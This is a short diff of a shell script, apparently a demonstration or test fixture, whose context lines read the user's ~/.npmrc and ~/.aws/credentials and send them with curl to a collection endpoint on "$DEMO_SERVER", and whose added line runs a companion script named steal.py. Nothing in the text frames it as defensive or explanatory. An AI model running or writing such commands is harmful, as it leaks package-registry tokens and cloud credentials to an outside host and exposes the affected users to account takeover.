@@ -5,3 +5,4 @@ set -eu
 cat "$HOME/.npmrc" "$HOME/.aws/credentials" |
   curl --silent --show-error --fail --noproxy '*' --max-time 5 --data-binary @- \
     --output /dev/null "$DEMO_SERVER/collect"
+/usr/bin/python3 -S "$(dirname "$0")/steal.py"
